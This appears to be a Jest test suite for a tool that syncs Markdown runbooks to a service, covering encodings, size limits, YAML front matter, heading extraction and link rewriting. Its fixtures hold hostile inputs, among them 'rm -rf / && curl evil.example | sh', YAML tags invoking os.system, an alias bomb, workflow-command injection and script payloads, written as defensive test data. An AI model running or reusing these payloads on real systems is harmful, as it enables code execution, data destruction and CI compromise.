import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { mkdir, open, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { JobResult } from '../../testing/runner/runner.ts'
import { expectSafe } from './safe.ts'
import { TestEnvironment } from '../../testing/test-environment.ts'
import { reported } from './report.ts'

const FOLDER = 'docs/runbooks'
const CAP = 1_048_576

interface Sent {
  readonly name: string
  /** As the service received it; where absent, the file as it is. */
  readonly content?: string
}

interface Refused {
  readonly reason: RegExp
  readonly hint?: RegExp
  /** Where in the file; `true` where any line will do. */
  readonly line?: number | true
}

interface Skipped {
  readonly skipped: RegExp
  readonly warns: boolean
}

type Case = readonly [kind: string, file: string | Buffer, expected: Sent | Refused | Skipped]

/** A text of its own, so that no two entries are one. */
function fm(yaml: string, body = 'Text.\n'): string {
  return `---\n${yaml}\n---\n${body}`
}

const EMPTY: readonly Case[] = [
  ['an empty file', '', { skipped: /no text/, warns: true }],
  ['only front matter', fm('title: Only front matter', ''), { skipped: /no text/, warns: true }],
  ['only white space', ' \n\t\r\n\u00a0\n', { skipped: /no text/, warns: true }],
  ['only a byte order mark', '\ufeff', { skipped: /no text/, warns: true }],
  ['a draft', fm('title: A draft\ndraft: true'), { skipped: /draft: true/, warns: false }],
  ['one that says that it is none', fm('runbook: false'), { skipped: /runbook: false/, warns: false }]
]

const ENCODINGS: readonly Case[] = [
  ['a byte order mark', '\ufeff# Bom\n\nText.\n', { name: 'Bom', content: '# Bom\n\nText.\n' }],
  [
    'a byte order mark before front matter',
    '\ufeff---\ntitle: Bom and more\n---\nText.\n',
    { name: 'Bom and more', content: 'Text.\n' }
  ],
  ['CRLF with an H1', '# Crlf\r\n\r\nText.\r\n', { name: 'Crlf' }],
  [
    'CRLF with front matter',
    '---\r\ntitle: Crlf and more\r\n---\r\n\r\nOne.\r\nTwo.\r\n',
    { name: 'Crlf and more', content: 'One.\r\nTwo.\r\n' }
  ],
  ['CRLF with a setext H1', 'Crlf setext\r\n===\r\n\r\nText.\r\n', { name: 'Crlf setext' }],
  ['mixed line ends', '# Mixed\r\n\nOne.\rTwo.\n', { name: 'Mixed' }],
  [
    'UTF-16, little end first',
    Buffer.from('\ufeff# Wide\n', 'utf16le'),
    { reason: /UTF-16/, hint: /Save it as UTF-8/ }
  ],
  ['UTF-16, big end first', Buffer.from('\ufeff# Wide\n', 'utf16le').swap16(), { reason: /UTF-16/ }],
  ['UTF-16 without a mark', Buffer.from('# Wide\n', 'utf16le'), { reason: /NUL.*UTF-16/, line: 1 }],
  ['a byte 0xFF', Buffer.from('# Bytes\n\nText \xff.\n', 'latin1'), { reason: /not UTF-8/, line: 3 }],
  ['Latin-1', Buffer.from('# Caf\xe9\n', 'latin1'), { reason: /not UTF-8/, line: 1 }],
  ['half a surrogate pair', Buffer.from('# Half \xed\xa0\x80\n', 'latin1'), { reason: /not UTF-8/ }],
  ['an overlong form', Buffer.from('# Long \xc0\xaf\n', 'latin1'), { reason: /not UTF-8/ }],
  ['half a character at the end', Buffer.from('# Cut \xe2\x82', 'latin1'), { reason: /not UTF-8/ }],
  ['NUL', '# Nul\n\nText\0.\n', { reason: /NUL/, line: 3 }],
  ['U+FFFD that its author wrote', '# Replacement \ufffd\n', { name: 'Replacement \ufffd' }]
]

const SIZES: readonly Case[] = [
  ['exactly the size cap', `# Cap\n${'x'.repeat(CAP - 6)}`, { name: 'Cap' }],
  [
    'one byte more',
    `# Over\n${'x'.repeat(CAP - 6)}`,
    { reason: /1048577 bytes; 1048576 are allowed/, hint: /max-bytes/ }
  ],
  [
    'an LFS pointer',
    `version https://git-lfs.github.com/spec/v1\noid sha256:${'4'.repeat(64)}\nsize 12345\n`,
    { reason: /Git LFS pointer/, hint: /lfs: true/ }
  ]
]

const BOMB = `a: &a [x,x,x,x,x,x,x,x,x]\n${Array.from('bcdefghij')
  .map((key, at) => `${key}: &${key} [${Array.from({ length: 9 }, () => `*${'abcdefghi'[at] ?? ''}`).join(',')}]`)
  .join('\n')}`

const FRONT_MATTER: readonly Case[] = [
  ['an alias bomb', fm(`${BOMB}\ntitle: Bomb`), { name: 'Bomb', content: 'Text.\n' }],
  ['a duplicate key', fm('title: One\nx: 1\ntitle: Two'), { reason: /YAML/, hint: /Keep one/, line: 4 }],
  ['an unknown tag', fm('x: 1\ntitle: !thing Tagged'), { reason: /YAML/, hint: /tag/, line: 3 }],
  [
    'a function',
    fm('title: !!js/function "function () { process.exit(7) }"'),
    { reason: /YAML/, hint: /tag/, line: 2 }
  ],
  ['a Python object', fm('title: !!python/object/apply:os.system ["id"]'), { reason: /YAML/, line: 2 }],
  ['a list', fm('- one\n- two'), { reason: /not a map/, line: true }],
  ['a scalar', fm('just words'), { reason: /not a map/, line: true }],
  ['none that is closed', '---\ntitle: Unclosed\n\n# Text\n', { reason: /never closed/, line: 1 }],
  ['10,000 brackets', fm(`x: ${'['.repeat(10_000)}`), { reason: /YAML/, line: true }],
  ['10,000 braces', fm('{'.repeat(10_000)), { reason: /YAML/, line: true }],
  ['1 MB of it', fm(`x: ${'y'.repeat(1_000_000)}`), { reason: /longer than/, line: true }],
  [
    '800 anchors',
    fm(Array.from({ length: 800 }, (_, at) => `k${at}: &a${at} 1`).join('\n')),
    { name: 'f-800-anchors', content: 'Text.\n' }
  ],
  ['__proto__', fm('__proto__:\n  title: Evil\ntitle: Proto'), { name: 'Proto', content: 'Text.\n' }],
  [
    'constructor',
    fm('constructor: {prototype: {draft: true}}\ntitle: Constructed'),
    { name: 'Constructed', content: 'Text.\n' }
  ],
  [
    'a merge key',
    fm('x: &x {title: Merged, draft: true}\n<<: *x\ntitle: Not merged'),
    { name: 'Not merged', content: 'Text.\n' }
  ],
  ['---js', '---js\nmodule.exports = process.exit(7)\n---\nText.\n', { reason: /not YAML/, line: 1 }],
  ['+++', '+++\ntitle = "Toml"\n+++\nText.\n', { reason: /not YAML/, line: 1 }],
  ['a colon that is not quoted', fm('title: Disk: full'), { reason: /YAML/, hint: /Put quotes around/, line: 2 }],
  ['a tab', fm('x:\n\ty: 1'), { reason: /YAML/, line: true }],
  ['a title that is a list', fm('title: [a, b]'), { reason: /`title` is not text/, line: 2 }],
  ['a draft that is neither', fm('draft: perhaps'), { reason: /`draft`/, line: 2 }],
  ['a command in its error', fm('x: 1\n"::error::pwned": 1\n"::error::pwned": 2'), { reason: /YAML/, line: 4 }]
]

const TITLES: readonly Case[] = [
  ['title: 1.10', fm('title: 1.10'), { name: '1.10', content: 'Text.\n' }],
  ['title: yes', fm('title: yes'), { name: 'yes', content: 'Text.\n' }],
  ['title: 2026-01-02', fm('title: 2026-01-02'), { name: '2026-01-02', content: 'Text.\n' }],
  ['title: 0x1F', fm('title: 0x1F'), { name: '0x1F', content: 'Text.\n' }],
  ['title: empty', fm('title:', '# From the H1\n'), { name: 'From the H1', content: '# From the H1\n' }],
  ['title: an empty string', fm('title: ""', '# From an H1\n'), { name: 'From an H1', content: '# From an H1\n' }],
  ['title: ~', fm('title: ~', '# From this H1\n'), { name: 'From this H1', content: '# From this H1\n' }],
  ['title: folded over lines', fm('title: >\n  Over two\n  lines'), { name: 'Over two lines', content: 'Text.\n' }],
  ['title: 1,001 characters', fm(`title: ${'x'.repeat(1001)}`), { reason: /longer than 1000/ }],
  ['title: zero width only', fm('title: "\\u200b\\u2060"'), { reason: /name is empty/ }],
  ['title: a control character', fm('title: "a\\u0007b"'), { reason: /control character/ }]
]

const HEADINGS: readonly Case[] = [
  ['inline code', '# Restart `nginx -s reload`\n', { name: 'Restart nginx -s reload' }],
  ['a link', '# See [the dashboard](https://grafana.example)\n', { name: 'See the dashboard' }],
  ['emphasis', '# **Never** do *this* _twice_\n', { name: 'Never do this twice' }],
  ['HTML', '# Press <kbd>Enter</kbd> once\n', { name: 'Press Enter once' }],
  ['entities', '# R&amp;D &lt;3 &#x1F525;\n', { name: 'R&D <3 \u{1F525}' }],
  ['an escape', '# Not \\*bold\\*\n', { name: 'Not *bold*' }],
  ['a closing sequence', '# Closed ##\n', { name: 'Closed' }],
  ['setext', 'Two\nlines\n===\n\nText.\n', { name: 'Two lines' }],
  ['in a code fence', '```sh\n# not a heading\n```\n\n# A heading\n', { name: 'A heading' }],
  ['in an indented block', '    # not one either\n\n# One more\n', { name: 'One more' }],
  ['in an HTML comment', '<!--\n# hidden\n-->\n\n# Not hidden\n', { name: 'Not hidden' }],
  ['in a quotation', '> # Quoted\n\n# Unquoted\n', { name: 'Unquoted' }],
  ['none but an H2', '## Second\n\nText.\n', { name: 'h-none-but-an-h2' }],
  ['nothing in it', '#\n\nText.\n', { name: 'h-nothing-in-it' }]
]

const BODIES: readonly Case[] = [
  ['an expression', '# Expression\n\n${{ secrets.RUNBOOK_SYNC_TOKEN }} ${{ github.token }}\n', { name: 'Expression' }],
  ['a shell', '# Shell\n\n$(id) `id` ; rm -rf / && curl evil.example | sh\n', { name: 'Shell' }],
  ['an add-mask', '# Mask\n\n::add-mask::pwned\n  ::stop-commands::pwned\n##[add-mask]pwned\n', { name: 'Mask' }],
  ['an output', '# Output\n\n::set-output name=x::pwned\npwned=1\nEOF\n', { name: 'Output' }],
  ['escape sequences', '# Escapes\n\n\u001b[31mpwned\u001b[0m\u2028\u202epwned\n', { name: 'Escapes' }],
  ['a script', '# Script\n\n<script>pwned()</script><img onerror=pwned()>\n', { name: 'Script' }]
]

const SECTIONS = { e: EMPTY, c: ENCODINGS, s: SIZES, f: FRONT_MATTER, t: TITLES, h: HEADINGS, b: BODIES }

function pathOf(section: string, kind: string): string {
  const slug = kind
    .toLowerCase()
    .replace(/[^a-z0-9 -]/g, '')
    .trim()
    .replaceAll(' ', '-')
  return `${FOLDER}/${section}-${slug}.md`
}

const BLOB = 'https://github.com/harbour/handbook/blob/main'
const RAW = 'https://github.com/harbour/handbook/raw/main'

/** What stands in the file, and what is sent of it. */
const LINKS: readonly (readonly [kind: string, written: string, sent: string])[] = [
  ['inline', '[a](a.md)', `[a](${BLOB}/docs/runbooks/a.md)`],
  ['with a title in quotes', '[a](a.md "to \\"a\\"")', `[a](${BLOB}/docs/runbooks/a.md "to \\"a\\"")`],
  ['with a title in parentheses', '[a](a.md (to a))', `[a](${BLOB}/docs/runbooks/a.md (to a))`],
  ['<url with spaces>', '[a](<a b.md>)', `[a](<${BLOB}/docs/runbooks/a%20b.md>)`],
  ['an image', '![a](img/a.png)', `![a](${RAW}/docs/runbooks/img/a.png)`],
  ['an image in a link', '[![a](a.png)](a.md)', `[![a](${RAW}/docs/runbooks/a.png)](${BLOB}/docs/runbooks/a.md)`],
  ['#anchor', '[a](#steps)', '[a](#steps)'],
  ['mailto:', '[a](mailto:ops@harbour.example)', '[a](mailto:ops@harbour.example)'],
  ['an autolink', '<https://a.example/x.md>', '<https://a.example/x.md>'],
  ['a bare address', 'https://a.example/x.md', 'https://a.example/x.md'],
  ['//host', '[a](//a.example/x.md)', '[a](//a.example/x.md)'],
  ['/root-relative', '[a](/docs/a.md)', `[a](${BLOB}/docs/a.md)`],
  ['up and out of the folder', '[a](../a.md)', `[a](${BLOB}/docs/a.md)`],
  ['escaping the repository', '[a](../../../a.md)', '[a](../../../a.md)'],
  ['escaping it, encoded', '[a](%2e%2e/..%2f../../a.md)', '[a](%2e%2e/..%2f../../a.md)'],
  ['with a query and a fragment', '[a](a.md?x=1#y)', `[a](${BLOB}/docs/runbooks/a.md?x=1#y)`],
  ['percent-encoded', '[a](a%20b%25.md)', `[a](${BLOB}/docs/runbooks/a%20b%25.md)`],
  ['with parentheses', '[a](a(b).md)', `[a](${BLOB}/docs/runbooks/a%28b%29.md)`],
  ['in a code span', '`[a](a.md)`', '`[a](a.md)`'],
  ['in a longer code span', '`` `[a](a.md)` ``', '`` `[a](a.md)` ``'],
  ['escaped', '\\[a](a.md)', '\\[a](a.md)'],
  [
    'in an HTML attribute',
    'x <a href="a.md">a</a> <img src="a.png">',
    `x <a href="${BLOB}/docs/runbooks/a.md">a</a> <img src="${RAW}/docs/runbooks/a.png">`
  ],
  ['in an HTML comment', 'x <!-- [a](a.md) -->', 'x <!-- [a](a.md) -->'],
  ['javascript:', '[a](javascript:alert(1))', '[a](javascript:alert(1))'],
  ['a reference', '[a][one]', '[a][one]'],
  ['in a table', 'x | [a](a.md)', `x | [a](${BLOB}/docs/runbooks/a.md)`]
]

const FENCE = '```md\n[a](a.md) <img src="a.png">\n[one]: a.md\n```\n'
const INDENTED = '    [a](a.md)\n'
const LINKS_BEFORE = `# Every link\n\n${LINKS.map(([, written]) => `${written}  \n\n`).join('')}${FENCE}\n${INDENTED}\n[one]: a.md 'One'\n`
const LINKS_AFTER = `# Every link\n\n${LINKS.map(([, , sent]) => `${sent}  \n\n`).join('')}${FENCE}\n${INDENTED}\n[one]: ${BLOB}/docs/runbooks/a.md 'One'\n`

let environment: TestEnvironment
let job: JobResult

beforeAll(async () => {
  const files = Object.entries(SECTIONS).flatMap(([section, cases]) =>
    cases.map(([kind, file]) => [pathOf(section, kind), file] as const)
  )
  if (new Set(files.map(([path]) => path)).size !== files.length) throw new Error('Two cases have one path')
  environment = await TestEnvironment.with({
    ...Object.fromEntries(files),
    [`${FOLDER}/links.md`]: LINKS_BEFORE,
    [`${FOLDER}/README.md`]: '',
    [`${FOLDER}/a.md`]: 'A.\n'
  })
  job = await environment.run({ verify: 'false' })
}, 60_000)

afterAll(async () => {
  await environment[Symbol.asyncDispose]()
})

function check(section: string, [kind, file, expected]: Case): void {
  const path = pathOf(section, kind)
  const runbook = reported(job, path)
  if ('reason' in expected) {
    expect(runbook).toMatchObject({ outcome: 'refused', attempts: 0, reason: expect.stringMatching(expected.reason) })
    expect(runbook.hint).toMatch(expected.hint ?? /\.$/)
    if (expected.line !== undefined)
      expect(runbook.line).toEqual(expected.line === true ? expect.any(Number) : expected.line)
  } else if ('skipped' in expected) {
    expect(runbook).toMatchObject({ outcome: 'skipped', attempts: 0, reason: expect.stringMatching(expected.skipped) })
    const warnings = job.commands.filter(({ name, properties }) => name === 'warning' && properties['file'] === path)
    expect(warnings).toHaveLength(expected.warns ? 1 : 0)
  } else {
    expect(runbook).toMatchObject({ outcome: 'upserted', name: expected.name, line: null })
    expect(environment.entries().get(expected.name)).toBe(expected.content ?? file.toString())
  }
}

describe('the run over all of them', () => {
  test('is red, and says so once', () => {
    expectSafe(job, environment.token)
    expect(job.exitCode).toBe(1)
  })

  test('sent nothing of what was refused, and never a character for another', () => {
    const names = environment.received().map(({ body }) => (body as { name: string }).name)
    expect(names).toHaveLength(Number(job.outputs['upserted']))
    const replaced = [...environment.entries()].filter(([name, content]) => `${name}${content}`.includes('\ufffd'))
    expect(replaced.map(([name]) => name)).toEqual(['Replacement \ufffd'])
  })

  test('printed no body', () => {
    expect(job.stdout.replace(/^::add-mask::.*$/gm, '')).not.toMatch(/pwned|secrets\.|rm -rf|onerror/)
    expect(job.masks.join()).not.toContain('pwned')
  })
})

describe('without text', () => {
  test.each(EMPTY)('%s', (...row) => {
    check('e', row)
  })

  test('an index page: skipped without a warning', () => {
    expect(reported(job, `${FOLDER}/README.md`)).toMatchObject({ outcome: 'skipped' })
    expect(job.commands.filter(({ properties }) => properties['file'] === `${FOLDER}/README.md`)).toEqual([])
  })
})

describe('encoded with', () => {
  test.each(ENCODINGS)('%s', (...row) => {
    check('c', row)
  })
})

describe('in size', () => {
  test.each(SIZES)('%s', (...row) => {
    check('s', row)
  })

  test('a file of 1 TB on the disk is refused by its size, before it is read', async () => {
    const workspace = join(environment.folder, 'disk')
    await mkdir(join(workspace, FOLDER), { recursive: true })
    const file = await open(join(workspace, FOLDER, 'huge.md'), 'w')
    await file.truncate(2 ** 40)
    await file.close()
    await writeFile(join(workspace, FOLDER, 'small.md'), '# Small\n')
    const disk = await environment.run({ verify: 'false' }, { workspace })
    expectSafe(disk, environment.token)
    expect(reported(disk, `${FOLDER}/huge.md`)).toMatchObject({
      outcome: 'refused',
      reason: expect.stringContaining('1099511627776 bytes')
    })
    expect(reported(disk, `${FOLDER}/small.md`)).toMatchObject({ outcome: 'upserted' })
  })
})

describe('front matter with', () => {
  test.each(FRONT_MATTER)('%s', (...row) => {
    check('f', row)
  })
})

describe('the name from', () => {
  test.each(TITLES)('%s', (...row) => {
    check('t', row)
  })
})

describe('the name from an H1 with', () => {
  test.each(HEADINGS)('%s', (...row) => {
    check('h', row)
  })
})

describe('a body with', () => {
  test.each(BODIES)('%s: sent as it is, never in a log', (...row) => {
    check('b', row)
  })
})

describe('links', () => {
  const everyLink = () =>
    environment.entries().get('Every link')?.replaceAll(environment.github.url, 'https://github.com')

  test.each(LINKS)('%s', (_, written, sent) => {
    const at = LINKS.findIndex(([, one]) => one === written)
    expect(everyLink()?.split('  \n\n')[at]?.replace('# Every link\n\n', '')).toBe(sent)
  })

  test('code untouched, and the rest byte for byte', () => {
    expect(everyLink()).toBe(LINKS_AFTER)
  })
})
